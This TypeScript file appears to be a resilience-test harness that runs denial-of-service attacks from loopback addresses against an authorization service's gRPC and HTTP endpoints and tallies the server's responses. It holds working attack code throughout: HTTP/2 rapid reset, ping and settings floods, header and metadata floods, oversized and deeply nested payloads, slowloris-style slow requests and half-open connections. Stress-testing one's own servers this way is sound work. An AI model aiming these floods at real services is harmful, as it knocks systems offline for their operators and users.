import { Agent, request as httpRequest } from "node:http";
import { type ClientHttp2Session, connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { constants, setPriority } from "node:os";
import { setTimeout as pause } from "node:timers/promises";

/** What the program in this file is to do: one attack, for so long, from an address that is not the other clients'. */
export interface AttackOrder {
  readonly name: AttackName;
  readonly grpc: string;
  readonly http: string;
  readonly token: string;
  readonly ms: number;
  /** Where it comes from; all of 127/8 is this machine. */
  readonly from: string;
}

const path = "/aegis.authz.v1.AuthorizationService/Check";
const head = { ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" };

class Attacker {
  /** What the server answered or did, and how often. */
  readonly heard = new Map<string, number>();
  readonly #order: AttackOrder;
  readonly #until: number;
  readonly #open: { destroy(): unknown }[] = [];
  readonly #agent: Agent;

  constructor(order: AttackOrder) {
    this.#order = order;
    this.#until = performance.now() + order.ms;
    this.#agent = new Agent({ keepAlive: true, localAddress: order.from });
  }

  get token(): string {
    return this.#order.token;
  }

  get going(): boolean {
    return performance.now() < this.#until;
  }

  note(what: string): void {
    this.heard.set(what, (this.heard.get(what) ?? 0) + 1);
  }

  session(): ClientHttp2Session {
    const session = connectHttp2(`http://${this.#order.grpc}`, {
      maxOutstandingPings: 100_000,
      createConnection: () => this.#connect(this.#order.grpc),
    });
    session.on("error", () => undefined);
    session.on("goaway", (code) => this.note(`GOAWAY ${code}`));
    session.on("close", () => this.going && this.note("connection closed"));
    this.#open.push(session);
    return session;
  }

  socket(to: "grpc" | "http"): Socket {
    const socket = this.#connect(to === "grpc" ? this.#order.grpc : new URL(this.#order.http).host);
    socket.on("error", () => undefined);
    socket.on("data", (chunk) => this.note(/^HTTP\/1\.1 \d+/.exec(chunk.toString("latin1"))?.[0] ?? "bytes"));
    socket.on("close", () => this.going && this.note("connection closed"));
    this.#open.push(socket);
    return socket;
  }

  /** Sends one call's bytes on a session, and notes what comes back. */
  send(session: ClientHttp2Session, body: Uint8Array, headers: Record<string, string> = {}): Promise<void> {
    return new Promise((resolve) => {
      const stream = session.request({ ...head, ...headers });
      stream.on("response", ({ ":status": status, "grpc-status": grpc }) => grpc !== undefined && this.note(`grpc ${grpc} (${status})`));
      stream.on("trailers", ({ "grpc-status": grpc }) => this.note(`grpc ${grpc}`));
      stream.on("error", (error: NodeJS.ErrnoException) => this.note(error.message.replace(/.*code /, "")));
      stream.on("close", resolve);
      stream.resume();
      stream.end(body);
    });
  }

  /** Notes the status of the answer, or that there was none. */
  async post(body: string | Uint8Array, headers: Record<string, string> = {}): Promise<void> {
    const { http, token } = this.#order;
    const given = { "content-type": "application/json", authorization: `Bearer ${token}`, ...headers };
    const told = await new Promise<string>((resolve) => {
      const asked = httpRequest(`${http}/access/v1/evaluation`, { method: "POST", headers: given, agent: this.#agent });
      asked.on("response", (answer) => answer.resume().on("close", () => resolve(`HTTP ${answer.statusCode}`)));
      asked.on("error", () => resolve("connection closed"));
      asked.end(body);
    });
    this.note(told);
  }

  #connect(to: string): Socket {
    const [host = "", port] = to.split(":");
    return connect({ host, port: Number(port), localAddress: this.#order.from });
  }

  done(): void {
    for (const one of this.#open) one.destroy();
    this.#agent.destroy();
  }
}

const frame = (message: Uint8Array) => Buffer.concat([Buffer.from([0]), length(message.length), message]);

function length(bytes: number): Buffer {
  const written = Buffer.alloc(4);
  written.writeUInt32BE(bytes);
  return written;
}

/** A CheckRequest (field 6, `arguments_json`) around these bytes. */
const request = (json: Uint8Array) => frame(Buffer.concat([Buffer.from([0x32]), varint(json.length), json]));

function varint(value: number): Buffer {
  const bytes: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 128);
  }
}

const deep = "[".repeat(100_000);

const attacks = {
  "HTTP/2 rapid reset": async (it: Attacker) => {
    while (it.going) {
      const session = it.session();
      for (let i = 0; i < 2_000 && it.going && !session.destroyed; i++) {
        const stream = session.request(head);
        stream.on("error", () => undefined);
        stream.close(8);
        if (i % 50 === 0) await new Promise(setImmediate);
      }
      await pause(20);
    }
  },
  "HTTP/2 ping flood": async (it: Attacker) => {
    while (it.going) {
      const session = it.session();
      while (it.going && !session.destroyed) {
        for (let i = 0; i < 500 && !session.destroyed; i++) session.ping(() => undefined);
        await new Promise(setImmediate);
      }
      await pause(20);
    }
  },
  "HTTP/2 settings flood": async (it: Attacker) => {
    while (it.going) {
      const session = it.session();
      session.once("connect", () => undefined);
      for (let i = 0; it.going && !session.destroyed; i++) {
        if (session.connecting || session.pendingSettingsAck) await new Promise(setImmediate);
        else session.settings({ initialWindowSize: 65_535 + (i % 100) });
      }
      await pause(20);
    }
  },
  "metadata flood": async (it: Attacker) => {
    const many = Object.fromEntries(Array.from({ length: 900 }, (_, i) => [`x-flood-${i}`, "y".repeat(20)]));
    const long = { "x-flood": "y".repeat(60_000) };
    while (it.going) {
      const session = it.session();
      await Promise.all([it.send(session, Buffer.alloc(0), many), it.send(session, Buffer.alloc(0), long)]);
      session.destroy();
    }
  },
  "huge protobuf messages": async (it: Attacker) => {
    const session = it.session();
    while (it.going) await it.send(session, request(Buffer.alloc(8 * 1024 * 1024, 0x20)));
  },
  "protobuf noise": async (it: Attacker) => {
    const session = it.session();
    for (let seed = 1; it.going; seed++) {
      const noise = Buffer.alloc(512);
      for (let i = 0; i < noise.length; i++) noise[i] = (Math.imul(seed + i, 2_654_435_761) >>> 13) & 255;
      await it.send(session, frame(noise));
    }
  },
  "100,000-deep JSON over gRPC": async (it: Attacker) => {
    const session = it.session();
    const authorization = { authorization: `Bearer ${it.token}` };
    while (it.going) await it.send(session, request(Buffer.from(`{"a":${deep}`)), authorization);
  },
  "100,000-deep JSON over HTTP": async (it: Attacker) => {
    while (it.going) await it.post(`{"subject":${deep}`);
  },
  "slow bodies on HTTP/2": async (it: Attacker) => {
    const sessions = Array.from({ length: 4 }, () => it.session());
    for (const session of sessions)
      for (let i = 0; i < 250; i++) {
        const stream = session.request(head);
        stream.on("error", (error: Error) => it.note(error.message.replace(/.*code /, "")));
        stream.write(Buffer.from([0]));
      }
    while (it.going) await pause(50);
  },
  "slow heads on HTTP/1": async (it: Attacker) => {
    const sockets = Array.from({ length: 300 }, () => it.socket("http"));
    for (const socket of sockets) socket.write("POST /access/v1/evaluation HTTP/1.1\r\nhost: x\r\n");
    while (it.going) {
      for (const socket of sockets) if (!socket.destroyed) socket.write("x: y\r\n");
      await pause(250);
    }
  },
  "header flood on HTTP/1": async (it: Attacker) => {
    const headers = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`x-flood-${i}`, "y".repeat(50)]));
    while (it.going) await it.post("{}", headers);
  },
  "bodies over the limit on HTTP/1": async (it: Attacker) => {
    const body = Buffer.alloc(4 * 1024 * 1024, 0x20);
    while (it.going) await it.post(body);
  },
  "half-open connections": async (it: Attacker) => {
    for (let i = 0; i < 400; i++) it.socket(i % 2 === 0 ? "grpc" : "http");
    while (it.going) await pause(50);
  },
  "noise on the gRPC port": async (it: Attacker) => {
    while (it.going) {
      const socket = it.socket("grpc");
      socket.write(Buffer.alloc(4_096, 0xff));
      await pause(5);
      socket.destroy();
    }
  },
} as const;

export type AttackName = keyof typeof attacks;
export const attackNames = Object.keys(attacks) as AttackName[];

const [order] = process.argv.slice(2);
if (import.meta.main && order !== undefined) {
  setPriority(constants.priority.PRIORITY_LOW);
  const { name } = JSON.parse(order) as AttackOrder;
  const it = new Attacker(JSON.parse(order) as AttackOrder);
  process.stdout.write("begun\n");
  await attacks[name](it);
  process.stdout.write(JSON.stringify([...it.heard]));
  it.done();
}
